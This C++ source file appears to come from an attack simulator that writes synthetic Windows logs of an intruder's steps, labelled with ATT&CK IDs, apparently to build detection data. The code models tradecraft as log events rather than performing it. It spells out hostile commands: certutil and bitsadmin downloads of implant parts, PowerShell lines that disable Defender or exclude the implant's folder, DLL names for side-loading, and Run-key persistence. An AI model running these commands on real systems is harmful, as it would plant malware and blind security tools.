#include "simulate/intruder_implant.h"

#include <fmt/format.h>

#include "simulate/traffic.h"

namespace noroshi {
namespace {

// Names that Windows looks for in the program's own folder first.
constexpr std::string_view kSystemLibraries[] = {"version.dll",   "wlbsctrl.dll", "dwmapi.dll",
                                                 "cryptbase.dll", "userenv.dll",  "secur32.dll"};

std::string FolderRoot(Intruder& intruder, const Foothold& at) {
  SeededRandom& random = intruder.random();
  if (!at.host().server() && random.Chance(50)) {
    const std::string user = at.session.account == nullptr ? "Public" : at.session.account->name;
    if (user == "Public") return "C:\\Users\\Public\\";
    return fmt::format("C:\\Users\\{}\\AppData\\{}\\", user,
                       random.Chance(50) ? "Roaming" : "Local");
  }
  constexpr std::string_view kRoots[] = {"C:\\ProgramData\\",   "C:\\ProgramData\\",
                                         "C:\\Users\\Public\\", "C:\\PerfLogs\\",
                                         "C:\\Intel\\",         "C:\\ProgramData\\Microsoft\\"};
  return std::string(random.Pick(kRoots));
}

bool Working(const World& world, const Host& host, Timestamp time) {
  const SiteInfo& site = world.organisation.InfoOf(host.site);
  const std::uint64_t local =
      time.ticks + static_cast<std::uint64_t>(site.zone_hours + 24) * 3'600 * kTicksPerSecond;
  const std::uint64_t hour = local / kTicksPerSecond / 3'600 % 24;
  const std::uint64_t weekday = (local / kTicksPerDay - 1) % 7;
  return weekday < 5 && hour >= 9 && hour < 18;
}

}  // namespace

Process ServiceManager(const Foothold& at) { return SystemProcess(*at.log, "services.exe"); }
Process TaskScheduler(const Foothold& at) {
  return SystemProcess(*at.log, "svchost.exe -k netsvcs -p -s Schedule");
}

void ChooseDisguise(Intruder& intruder, Foothold& at) {
  at.names = intruder.names().Product();
  if (intruder.random().Chance(30)) at.names.library = intruder.random().Pick(kSystemLibraries);
  at.folder = FolderRoot(intruder, at) + at.names.folder + "\\";
}

void FetchParts(Intruder& intruder, Foothold& at) {
  SeededRandom& random = intruder.random();
  const std::string file = at.folder + intruder.names().Random(random.Between(3, 7)) +
                           (random.Chance(50) ? ".cab" : ".dat");
  const std::string address = intruder.NewAddress();
  const std::string url = fmt::format("http://{}/{}", address, intruder.names().Random(6));
  const unsigned how = static_cast<unsigned>(random.Below(3));
  const Label label =
      intruder.Step(at.host(), {how < 2 ? "D3-19" : "D1-15"}, {how < 2 ? "T1105" : "T1570"},
                    how < 2 ? "A tool of the system fetches the implant's parts"
                            : "The implant's parts come over the remote desktop's shared drive",
                    at.session.account == nullptr ? "" : at.session.account->name);
  const LabelScope scope(*at.log, label);
  if (how == 2) {
    const Process copy = OpenShell(
        intruder, at, fmt::format("copy \\\\tsclient\\C\\{} {}", intruder.names().Random(5), file));
    WriteFile(*at.log, intruder.Pass(2, 20), copy, file);
    return;
  }
  const Process process =
      how == 0 ? RunCommand(intruder, at, "certutil",
                            fmt::format("-urlcache -split -f {} {}", url, file))
               : RunCommand(intruder, at, "bitsadmin",
                            fmt::format("/transfer {} /download /priority high {} {}",
                                        intruder.names().Random(5), url, file));
  FetchDirectly(intruder.world(), *at.log, intruder.now(), process,
                {.address = address,
                 .port = 80,
                 .tls = false,
                 .path = "/" + url.substr(url.rfind('/') + 1),
                 .user_agent = how == 0 ? "CertUtil URL Agent" : "Microsoft BITS/7.8",
                 .received = random.Between(180'000, 900'000)});
  WriteFile(*at.log, intruder.Pass(1, 5), process, file);
}

void DropParts(Intruder& intruder, Foothold& at, const Process& writer) {
  const LabelScope scope(*at.log, intruder.Step(at.host(), {"D1-15"}, {"T1036.005", "T1105"},
                                                "A program and the intruder's library appear "
                                                "together in a folder that is no program's home"));
  Process author = writer;
  if (author.image.empty()) {
    author = RunCommand(
        intruder, at, "expand",
        fmt::format("{}{} -F:* {}", at.folder, intruder.names().Random(4) + ".cab", at.folder));
  }
  WriteFile(*at.log, intruder.Pass(1, 3), author, at.folder + at.names.program);
  WriteFile(*at.log, intruder.Pass(1, 8), author, at.folder + at.names.library);
  intruder.Pass(20, 120);
}

void Persist(Intruder& intruder, Foothold& at, Persistence how, const Process& author) {
  HostLog& log = *at.log;
  const std::string image = at.folder + at.names.program;
  if (how == Persistence::kService) {
    const LabelScope scope(log, intruder.Step(at.host(), {"D2-06"}, {"T1543.003", "T1569.002"},
                                              "A new service starts the implant's program"));
    InstallService(log, intruder.now(), at.session, at.names.service, image);
  } else if (how == Persistence::kTask) {
    const LabelScope scope(log, intruder.Step(at.host(), {"D2-05"}, {"T1053.005"},
                                              "A new task starts the implant's program"));
    const Task task{"\\" + at.names.product, image, ""};
    CreateTask(log, intruder.now(), at.session, task);
    RunTask(log, intruder.Pass(2, 30), task);
  } else {
    const LabelScope scope(log, intruder.Step(at.host(), {"D2-07"}, {"T1547.001"},
                                              "A Run key starts the implant's program"));
    const std::string sid = at.session.account == nullptr ? "S-1-5-18" : at.session.account->sid;
    SetRegistryValue(log, intruder.now(), author,
                     fmt::format("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{}",
                                 sid, at.names.product),
                     image);
  }
  intruder.Pass(5, 60);
}

void LoadBeside(Intruder& intruder, Foothold& at, const Process& parent) {
  const LabelScope scope(*at.log, intruder.Step(at.host(), {"D2-01"}, {"T1574.001"},
                                                "The signed program loads the intruder's unsigned "
                                                "library from its own folder"));
  const std::string image = at.folder + at.names.program;
  const bool renamed = intruder.random().Chance(30);
  const std::string original = renamed ? intruder.names().Word(3) + ".exe" : at.names.program;
  at.implant = StartProgram(*at.log, intruder.now(), parent, image, image, parent.session,
                            {original, at.names.product, at.names.product, at.names.vendor});
  LoadModule(*at.log, intruder.Pass(1, 2), at.implant, {at.folder + at.names.library, ""});
  intruder.Pass(5, 60);
}

void MoveInto(Intruder& intruder, Foothold& at, std::string_view target) {
  const LabelScope scope(*at.log,
                         intruder.Step(at.host(), {"D2-31"}, {"T1055"},
                                       fmt::format("The implant starts a thread in {}", target)));
  Process victim = SystemProcess(*at.log, target);
  if (target == "explorer.exe") victim.image = "C:\\Windows\\explorer.exe";
  victim.session = at.implant.session;
  StartThreadIn(*at.log, intruder.now(), at.implant, victim);
  at.implant = victim;
  intruder.Pass(5, 60);
}

void CallHome(Intruder& intruder, const Foothold& at, const ControlServer& server,
              std::vector<std::string> ideas, std::string title) {
  constexpr std::uint64_t kMostContacts = 600;
  World& world = intruder.world();
  const LabelScope scope(*at.log, intruder.Step(at.host(), std::move(ideas), {"T1071.001", "T1573"},
                                                std::move(title)));
  SeededRandom random = intruder.random().Fork(at.host().name);
  Timestamp time = Later(intruder.now(), random.Between(5, 60));
  for (std::uint64_t i = 0; i < kMostContacts && time < intruder.end(); ++i) {
    WebRequest request = server.request;
    request.sent += random.Below(400);
    request.received = 300 + random.Below(900);
    if (at.host().server() || i == 0 || Working(world, at.host(), time)) {
      Fetch(world, *at.log, time, at.implant, request);
    }
    const std::uint64_t spread = server.interval * server.jitter / 100;
    time = Later(time, server.interval - spread + random.Below(2 * spread + 1));
  }
}

void BlindDefender(Intruder& intruder, Foothold& at) {
  HostLog& log = *at.log;
  const std::string folder = at.folder.substr(0, at.folder.size() - 1);
  const bool off = intruder.random().Chance(25);
  const LabelScope scope(log, intruder.Step(at.host(), {"D2-12"}, {"T1685"},
                                            off ? "Defender's real-time protection is switched off"
                                                : "The implant's folder is left out of Defender's "
                                                  "scans"));
  const std::string text = off ? std::string("Set-MpPreference -DisableRealtimeMonitoring $true")
                               : "Add-MpPreference -ExclusionPath " + folder;
  RunCommand(intruder, at, "WindowsPowerShell\\v1.0\\powershell", text);
  RunScript(log, intruder.Pass(1, 2), text);
  if (off) {
    log.Add(CatalogEvent::kDefenderOff, intruder.Pass(1, 2),
            {{"Product Name", "%%827"}, {"Product Version", "4.18.2009.7"}});
  } else {
    log.Add(CatalogEvent::kDefenderConfig, intruder.Pass(1, 2),
            {{"Product Name", "%%827"},
             {"Product Version", "4.18.2009.7"},
             {"Old Value", ""},
             {"New Value", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\" +
                               folder + " = 0x0"}});
  }
  intruder.Pass(20, 120);
}

void HostManagedCode(Intruder& intruder, Foothold& at) {
  const LabelScope scope(*at.log,
                         intruder.Step(at.host(), {"D2-08", "D2-09"}, {"T1620", "T1027.011"},
                                       "A file lies in the .NET folder that nothing of "
                                       ".NET wrote, and a native program hosts managed "
                                       "code"));
  WriteFile(*at.log, intruder.now(), at.implant,
            fmt::format("C:\\Windows\\Microsoft.NET\\{}.{}", intruder.names().Word(3),
                        intruder.random().Chance(50) ? "dat" : "tlb"));
  LoadModule(*at.log, intruder.Pass(2, 9), at.implant,
             {"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
              "Microsoft Corporation", "Microsoft\u00ae .NET Framework", "Microsoft Corporation"});
  intruder.Pass(20, 90);
}

}  // namespace noroshi
